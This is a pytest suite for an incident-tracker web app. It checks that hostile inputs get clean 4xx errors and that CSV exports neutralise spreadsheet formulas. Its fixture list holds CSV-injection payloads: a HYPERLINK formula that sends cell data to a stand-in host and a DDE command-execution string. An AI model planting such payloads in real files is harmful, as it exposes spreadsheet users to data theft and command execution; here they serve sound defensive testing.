"""Hostile input the issue "Hostile world II" found: each is a clear 4xx, never a 500."""

from __future__ import annotations

import csv
import io
import logging
import re
import threading
from datetime import timedelta
from typing import Any

import pytest
import sqlalchemy as sa
from click.testing import CliRunner
from flask import Flask
from flask.testing import FlaskClient

from incident_tracker import cli
from incident_tracker.auth.identity import Identity
from incident_tracker.core.config import load_settings
from incident_tracker.core.database import db, rfc3339, utcnow
from incident_tracker.incidents import service
from incident_tracker.incidents.models import EventKind, IdempotencyRecord
from incident_tracker.web import views as web_views
from incident_tracker.webhooks import worker
from tests.support.api import (
    api_client,
    assert_problem,
    create,
    move,
    sent_statements,
    token_for,
)
from tests.support.logs import logs_of
from tests.support.metrics import WINDOW_END, WINDOW_START, seed_incidents
from tests.support.web import csrf_token, sign_in

ADMIN = Identity("tester", frozenset({"admin"}))
DEEP_ARRAY = "[" * 60_000
DEEP_OBJECT = '{"a":' * 12_000  # 60 000 bytes, under the 64 KiB limit


def _no_error_logged(caplog: pytest.LogCaptureFixture) -> None:
    assert not [r for r in caplog.records if r.levelno >= logging.ERROR or r.exc_info]


@pytest.mark.parametrize("body", [DEEP_ARRAY, DEEP_OBJECT, "[" * 33 + "]" * 33])
def test_a_deeply_nested_body_is_a_400_problem_on_every_api_write(
    client: FlaskClient, caplog: pytest.LogCaptureFixture, body: str
) -> None:
    incident_id = create(client)["id"]
    json = {"Content-Type": "application/json"}
    writes = [
        client.post("/api/v1/incidents", data=body, headers=json),
        client.patch(
            f"/api/v1/incidents/{incident_id}", data=body, headers={**json, "If-Match": '"1"'}
        ),
        client.post(f"/api/v1/incidents/{incident_id}/events", data=body, headers=json),
        client.post("/api/v1/integrations/alertmanager", data=body, headers=json),
        client.post("/api/v1/webhooks", data=body, headers=json),
        client.get("/api/v1/incidents", data=body, headers=json),
    ]
    for response in writes:
        assert "nests deeper than 32 levels" in assert_problem(response, 400)["detail"]
    _no_error_logged(caplog)


def test_a_body_at_the_depth_limit_is_read(client: FlaskClient) -> None:
    """32 levels still parse: the refusal is the depth, not any nesting."""
    response = client.post(
        "/api/v1/incidents", data="[" * 32 + "]" * 32, content_type="application/json"
    )
    assert "nests deeper" not in assert_problem(response, 422)["detail"]


def test_a_deeply_nested_body_to_a_page_is_a_client_error_page(
    app: Flask, admin_token: str, caplog: pytest.LogCaptureFixture
) -> None:
    anonymous = app.test_client().post("/sign-in", data=DEEP_ARRAY, content_type="application/json")
    assert 400 <= anonymous.status_code < 500 and anonymous.mimetype == "text/html"
    browser = app.test_client()
    sign_in(browser, admin_token)
    page = browser.post("/incidents/new", data=DEEP_ARRAY, content_type="application/json")
    assert 400 <= page.status_code < 500 and page.mimetype == "text/html"
    _no_error_logged(caplog)


def _close(client: FlaskClient, incident_id: int, final: str) -> None:
    moves = ["resolved", "closed"] if final == "closed" else ["canceled"]
    for target in moves:
        response = move(client, incident_id, target, resolution_summary="done", reason="dup")
        assert response.status_code == 200, response.json


@pytest.mark.parametrize("final", ["closed", "canceled"])
def test_closed_and_canceled_incidents_refuse_patches_and_notes(
    client: FlaskClient, app: Flask, final: str
) -> None:
    incident_id = create(client)["id"]
    _close(client, incident_id, final)
    before = client.get(f"/api/v1/incidents/{incident_id}")
    events_before = client.get(f"/api/v1/incidents/{incident_id}/events").json["items"]
    writer = api_client(app, token_for(app, "writer", "incidents:write"))
    for who in (client, writer):  # admin included: reopen first
        patch = who.patch(
            f"/api/v1/incidents/{incident_id}",
            json={"severity": "SEV1", "started_at": "2020-01-01T00:00:00Z"},
            headers={"If-Match": before.headers["ETag"]},
        )
        assert "read-only" in assert_problem(patch, 409)["detail"]
        note = who.post(f"/api/v1/incidents/{incident_id}/events", json={"body": "late"})
        assert "read-only" in assert_problem(note, 409)["detail"]
    assert client.get(f"/api/v1/incidents/{incident_id}").json == before.json
    assert client.get(f"/api/v1/incidents/{incident_id}/events").json["items"] == events_before


def test_resolved_and_reopened_incidents_stay_editable(client: FlaskClient) -> None:
    incident_id = create(client)["id"]
    move(client, incident_id, "resolved", resolution_summary="done")
    patched = client.patch(
        f"/api/v1/incidents/{incident_id}", json={"severity": "SEV1"}, headers={"If-Match": '"2"'}
    )
    assert patched.status_code == 200, patched.json
    move(client, incident_id, "closed")
    assert move(client, incident_id, "investigating").status_code == 200  # admin reopens
    note = client.post(f"/api/v1/incidents/{incident_id}/events", json={"body": "reopened"})
    assert note.status_code == 201, note.json


@pytest.mark.parametrize("final", ["closed", "canceled"])
def test_the_ui_refuses_edits_and_notes_on_a_closed_incident(
    app: Flask, client: FlaskClient, admin_token: str, final: str
) -> None:
    incident_id = create(client)["id"]
    _close(client, incident_id, final)
    before = client.get(f"/api/v1/incidents/{incident_id}").json
    browser = app.test_client()
    sign_in(browser, admin_token)
    page = browser.get(f"/incidents/{incident_id}")
    assert 'name="body"' not in page.text and "Save changes" not in page.text
    assert "read-only" in page.text
    token = csrf_token(page)
    note = browser.post(
        f"/incidents/{incident_id}/notes", data={"body": "late", "csrf_token": token}
    )
    assert note.status_code == 409 and "read-only" in note.text
    edit = browser.post(
        f"/incidents/{incident_id}/edit",
        data={
            "csrf_token": token,
            "version": str(before["version"]),
            "title": "rewritten",
            "severity": "SEV1",
            "service": before["service"],
        },
    )
    assert edit.status_code == 409 and "read-only" in edit.text
    assert client.get(f"/api/v1/incidents/{incident_id}").json == before


TOO_LONG = {"since": ["is more than 366 days before until"]}
TOO_EARLY = "is too early: the default window of 30 days before it starts before year 1"


@pytest.mark.parametrize(
    ("query", "errors"),
    [
        # the default start, until - 30 days, underflows
        ("until=0001-01-05T00:00:00Z", {"until": [TOO_EARLY]}),
        ("since=0001-01-01T00:00:00Z", TOO_LONG),  # the window up to now spans 2 000 years
        ("since=2025-01-01T00:00:00Z&until=2026-01-03T00:00:00Z", TOO_LONG),  # 367 days
        ("since=0001-01-01T00:00:00%2B01:00", None),  # before year 1 in UTC
        ("since=2026-01-03T00:00:00Z&until=2026-01-03T00:00:00Z", None),  # an empty window
    ],
)
def test_a_metrics_window_out_of_range_is_a_422_naming_the_parameter(
    client: FlaskClient, query: str, errors: dict[str, list[str]] | None
) -> None:
    body = assert_problem(client.get(f"/api/v1/metrics/incidents?{query}"), 422)
    if errors is None:
        assert list(body["errors"]) == ["since"]
    else:
        assert body["errors"] == errors
        [(name, [message])] = errors.items()
        assert body["detail"] == f"{name} {message}"


def test_an_empty_or_reversed_metrics_window_names_since(client: FlaskClient) -> None:
    for until in ("2026-01-03T00:00:00Z", "2026-01-02T00:00:00Z"):
        query = f"since=2026-01-03T00:00:00Z&until={until}"
        body = assert_problem(client.get(f"/api/v1/metrics/incidents?{query}"), 422)
        assert body["detail"] == "since must be before until"
        assert body["errors"] == {"since": ["must be before until"]}


@pytest.mark.parametrize(
    ("status", "reopen"), [("closed", "reopen it first"), ("canceled", "it cannot be reopened")]
)
def test_a_read_only_incident_refuses_a_note_saying_why(
    client: FlaskClient, status: str, reopen: str
) -> None:
    incident_id = create(client)["id"]
    if status == "closed":
        move(client, incident_id, "resolved", resolution_summary="done")
        move(client, incident_id, "closed")
    else:
        move(client, incident_id, "canceled", reason="noise")
    refused = client.post(f"/api/v1/incidents/{incident_id}/events", json={"body": "late"})
    problem = assert_problem(refused, 409)
    assert problem["type"] == "urn:incident-tracker:problem:read-only"
    assert problem["detail"] == f"incident {incident_id} is {status} and read-only; {reopen}"


@pytest.mark.parametrize("path", ["", "/events"])
def test_an_unknown_incident_is_named_in_its_404(client: FlaskClient, path: str) -> None:
    for incident_id in (1_000_000, 2**63 - 1, 2**63):
        problem = assert_problem(client.get(f"/api/v1/incidents/{incident_id}{path}"), 404)
        assert problem["detail"] == f"incident {incident_id} does not exist"


def test_a_write_to_an_unknown_incident_is_named_in_its_404(client: FlaskClient) -> None:
    """Writes read the incident with a row lock, a path of its own."""
    for incident_id in (1_000_000, 2**63):
        writes = [
            client.patch(
                f"/api/v1/incidents/{incident_id}", json={"title": "x"}, headers={"If-Match": "*"}
            ),
            move(client, incident_id, "investigating"),
            client.post(f"/api/v1/incidents/{incident_id}/events", json={"body": "x"}),
        ]
        for response in writes:
            problem = assert_problem(response, 404)
            assert problem["detail"] == f"incident {incident_id} does not exist"


def test_a_metrics_window_of_366_days_is_answered(client: FlaskClient) -> None:
    response = client.get(
        "/api/v1/metrics/incidents?since=2025-01-01T00:00:00Z&until=2026-01-02T00:00:00Z"
    )
    assert response.status_code == 200, response.json


@pytest.mark.parametrize("seed", [1, 2])
def test_postgresql_metrics_equal_the_definition(
    app: Flask, client: FlaskClient, seed: int
) -> None:
    with app.app_context():
        expected = seed_incidents(db.session, seed)
    window = f"since={rfc3339(WINDOW_START)}&until={rfc3339(WINDOW_END)}"
    groups = client.get(f"/api/v1/metrics/incidents?{window}").json["groups"]
    assert {group.pop("key"): group for group in groups} == expected


def test_metrics_are_aggregated_in_the_database(app: Flask, client: FlaskClient) -> None:
    """However many incidents the window holds, the service reads a row per group."""
    with app.app_context():
        seed_incidents(db.session, 4, count=300)
    fetched: list[int] = []

    def count_rows(_conn: Any, cursor: Any, *_: Any) -> None:
        fetched.append(cursor.rowcount)

    with app.app_context():
        sa.event.listen(db.engine, "after_cursor_execute", count_rows)
        try:
            window = f"since={rfc3339(WINDOW_START)}&until={rfc3339(WINDOW_END)}"
            assert client.get(f"/api/v1/metrics/incidents?{window}").status_code == 200
        finally:
            sa.event.remove(db.engine, "after_cursor_execute", count_rows)
    assert fetched and max(fetched) <= 3  # three severities; never the 300 incidents


def _idempotent_creates(client: FlaskClient, ages: list[timedelta]) -> list[str]:
    """One create per age under its own Idempotency-Key, then the record made that old."""
    keys = [f"key-{number}" for number in range(len(ages))]
    for key in keys:
        response = client.post(
            "/api/v1/incidents",
            json={"title": key, "severity": "SEV3", "service": "checkout"},
            headers={"Idempotency-Key": key},
        )
        assert response.status_code == 201
    with db.engine.begin() as connection:
        for key, age in zip(keys, ages, strict=True):
            connection.execute(
                sa.update(IdempotencyRecord)
                .where(IdempotencyRecord.key == key)
                .values(created_at=utcnow() - age)
            )
    return keys


def _kept_keys() -> list[str]:
    return sorted(db.session.scalars(sa.select(IdempotencyRecord.key)))


def test_expired_idempotency_records_are_pruned_in_batches(
    app: Flask, client: FlaskClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    ttl = timedelta(hours=24)
    with app.app_context():
        keys = _idempotent_creates(client, [timedelta(hours=h) for h in (49, 30, 25, 23, 1)])
        with sent_statements(app) as sent, logs_of(service, monkeypatch) as logs:
            assert service.prune_idempotency_records(db.session, ttl, batch_size=1) == 3
        assert _kept_keys() == keys[3:]
        # A record per batch, and a last batch that finds none.
        assert sum(statement.startswith("DELETE") for statement in sent) == 4
        assert {"event": "idempotency records pruned", "deleted": 3, "log_level": "info"} in logs
        with logs_of(service, monkeypatch) as logs:
            assert service.prune_idempotency_records(db.session, ttl) == 0
        assert logs == []


def test_an_idempotency_record_exactly_its_ttl_old_is_kept(
    app: Flask, client: FlaskClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Pruned once older than the TTL, as a key replays up to and at its TTL."""
    ttl = timedelta(hours=24)
    now = utcnow()
    monkeypatch.setattr(service, "utcnow", lambda: now)
    with app.app_context():
        keys = _idempotent_creates(client, [timedelta(hours=25), timedelta(hours=1)])
        db.session.execute(
            sa.update(IdempotencyRecord)
            .where(IdempotencyRecord.key == keys[1])
            .values(created_at=now - ttl)
        )
        db.session.commit()
        assert service.prune_idempotency_records(db.session, ttl) == 1
        assert _kept_keys() == keys[1:]


def test_the_worker_command_prunes_idempotency_records(app: Flask, client: FlaskClient) -> None:
    """`incident-tracker worker` hands the prune to the webhook worker's hourly housekeeping."""
    with app.app_context():
        keys = _idempotent_creates(client, [timedelta(hours=25), timedelta(hours=1)])
    pruned: list[int] = []

    def housekeeping_only(session: Any, *_: Any, also_prune: Any = ()) -> None:
        pruned.extend(prune(session) for prune in also_prune)

    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(worker, "run", housekeeping_only)
        result = CliRunner().invoke(cli.main, ["worker"])
    assert result.exit_code == 0, result.output
    assert pruned == [1]
    with app.app_context():
        assert _kept_keys() == keys[1:]


def test_the_worker_runs_the_other_prunes_with_its_own(app: Flask) -> None:
    stop = threading.Event()
    sessions: list[Any] = []

    def prune_and_stop(session: Any) -> int:
        sessions.append(session)
        stop.set()  # one round only: the loop ends after this housekeeping
        return 0

    with app.app_context():
        worker.run(db.session, load_settings(), stop, also_prune=[prune_and_stop])
        assert sessions == [db.session]


FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&B2,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTAB",
    "\rCR",
]


def _csv_cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_both_csv_exports_defuse_formulas(
    app: Flask, client: FlaskClient, admin_token: str
) -> None:
    for formula in FORMULAS:
        create(client, title=formula, summary=formula, commander=formula, tags=[formula[:50]])
    create(client, title="plain - title", summary=None)
    api = client.get("/api/v1/incidents?limit=100", headers={"Accept": "text/csv"})
    exports = [(api.status_code, api.mimetype, api.get_data(as_text=True))]
    browser = app.test_client()
    sign_in(browser, admin_token)
    page = browser.get("/incidents.csv")
    exports.append((page.status_code, page.mimetype, page.get_data(as_text=True)))
    for status, mimetype, text in exports:
        assert status == 200 and mimetype == "text/csv"
        rows = _csv_cells(text)
        assert len(rows) == len(FORMULAS) + 1
        for row, formula in zip(rows[1:], reversed(FORMULAS), strict=True):  # newest first
            for column in ("title", "summary", "commander", "tags"):
                assert row[column].startswith("'" + formula[:1]), (column, row[column])
        assert rows[0]["title"] == "plain - title"  # only a leading character is defused
        assert all(not cell.startswith(tuple("=+-@\t\r")) for row in rows for cell in row.values())


def test_the_ui_export_streams_every_selected_incident(
    app: Flask, client: FlaskClient, admin_token: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A page of rows per query, read as the file is sent: never the whole export in memory."""
    for number in range(7):
        create(client, title=f"export {number}", service="search" if number % 2 else "checkout")
    monkeypatch.setattr(web_views, "EXPORT_PAGE", 2)
    browser = app.test_client()
    sign_in(browser, admin_token)
    page_queries: list[str] = []

    def count_pages(_conn: Any, _cursor: Any, statement: str, *_: Any) -> None:
        if "FROM incidents" in statement:
            page_queries.append(statement)

    with app.app_context():
        sa.event.listen(db.engine, "after_cursor_execute", count_pages)
    try:
        response = browser.get("/incidents.csv?service=checkout", buffered=False)
        before_body = len(page_queries)
        text = b"".join(response.response).decode()
        response.close()
    finally:
        with app.app_context():
            sa.event.remove(db.engine, "after_cursor_execute", count_pages)
    assert before_body == 1 and len(page_queries) == 2  # 4 rows, 2 a page: the 2nd page later
    assert [row["title"] for row in _csv_cells(text)] == [f"export {n}" for n in (6, 4, 2, 0)]
    monkeypatch.setattr(web_views, "EXPORT_MAX_ROWS", 3)
    assert len(_csv_cells(browser.get("/incidents.csv").get_data(as_text=True))) == 3


def test_events_are_paginated_oldest_first(client: FlaskClient) -> None:
    incident_id = create(client)["id"]
    for number in range(7):
        client.post(f"/api/v1/incidents/{incident_id}/events", json={"body": f"note {number}"})
    url = f"/api/v1/incidents/{incident_id}/events"
    assert len(client.get(url).json["items"]) == 7  # default limit 100
    bodies, cursor, pages = [], None, 0
    while True:
        page = client.get(url, query_string={"limit": 3, **({"cursor": cursor} if cursor else {})})
        assert page.status_code == 200, page.json
        bodies += [event["body"] for event in page.json["items"]]
        pages += 1
        if (cursor := page.json["next_cursor"]) is None:
            break
    assert bodies == [f"note {n}" for n in range(7)] and pages == 3
    assert client.get(url, query_string={"limit": 500}).status_code == 200
    for bad in ({"limit": 501}, {"limit": 0}, {"limit": -1}, {"limit": 10**30}):
        assert "limit" in assert_problem(client.get(url, query_string=bad), 422)["errors"]
    assert_problem(client.get(url, query_string={"cursor": "nope"}), 400)


def test_the_openapi_document_describes_events_pagination(client: FlaskClient) -> None:
    document = client.get("/api/v1/openapi.json").json
    operation = document["paths"]["/api/v1/incidents/{incident_id}/events"]["get"]
    parameters = {parameter["name"]: parameter for parameter in operation["parameters"]}
    assert parameters["limit"]["schema"]["maximum"] == 500
    assert parameters["limit"]["schema"]["default"] == 100
    assert "cursor" in parameters
    schema = document["components"]["schemas"]["EventList"]
    assert "next_cursor" in schema["required"]


def test_the_incident_page_pages_its_timeline(
    app: Flask, client: FlaskClient, admin_token: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    incident_id = create(client)["id"]
    for number in range(5):
        client.post(f"/api/v1/incidents/{incident_id}/events", json={"body": f"note-{number}"})
    monkeypatch.setattr(web_views, "TIMELINE_PAGE", 3)
    browser = app.test_client()
    sign_in(browser, admin_token)
    # Newest first (the war room keeps the latest in view); "Older events" pages back.
    first = browser.get(f"/incidents/{incident_id}")
    timeline = first.text[first.text.index('id="timeline"') :]
    assert re.findall(r"note-\d", timeline) == ["note-4", "note-3", "note-2"]
    older = re.search(r'href="([^"]+)">Older events', first.text)
    assert older
    second = browser.get(older.group(1).replace("&amp;", "&"))
    timeline = second.text[second.text.index('id="timeline"') :]
    assert re.findall(r"note-\d", timeline) == ["note-1", "note-0"]
    assert "Older events" not in second.text and "Newest events" in second.text


def test_the_alertmanager_path_reads_one_note_with_limit_1(app: Flask, client: FlaskClient) -> None:
    """`_last_firing` (incidents.service.latest_note_data): one indexed row, not every note."""
    incident_id = create(client)["id"]
    statements: list[tuple[str, int]] = []

    def record(_conn: Any, cursor: Any, statement: str, *_: Any) -> None:
        statements.append((statement, cursor.rowcount))

    with app.app_context():
        for number in range(3):
            service.add_note(db.session, incident_id, "n", ADMIN, {"source": "am", "n": number})
        db.session.commit()
        sa.event.listen(db.engine, "after_cursor_execute", record)
        try:
            latest = service.latest_note_data(db.session, incident_id, "am")
        finally:
            sa.event.remove(db.engine, "after_cursor_execute", record)
    assert latest == {"source": "am", "n": 2}
    [(statement, rows)] = statements
    assert "LIMIT" in statement and rows == 1


def test_the_latest_note_data_is_that_sources_newest_note_on_that_incident(
    app: Flask, client: FlaskClient
) -> None:
    mine, other = create(client)["id"], create(client)["id"]
    with app.app_context():
        service.add_note(db.session, mine, "n", ADMIN, {"source": "am", "n": 1})
        # Newer, but by another source, on another incident, or not a note.
        service.add_note(db.session, mine, "n", ADMIN, {"source": "pagerduty", "n": 2})
        service.add_note(db.session, mine, "n", ADMIN, None)
        service.add_note(db.session, other, "n", ADMIN, {"source": "am", "n": 3})
        service.add_note(
            db.session, mine, "d", ADMIN, {"source": "am", "n": 4}, kind=EventKind.DECISION
        )
        db.session.commit()
        assert service.latest_note_data(db.session, mine, "am") == {"source": "am", "n": 1}
        assert service.latest_note_data(db.session, mine, "nobody") is None
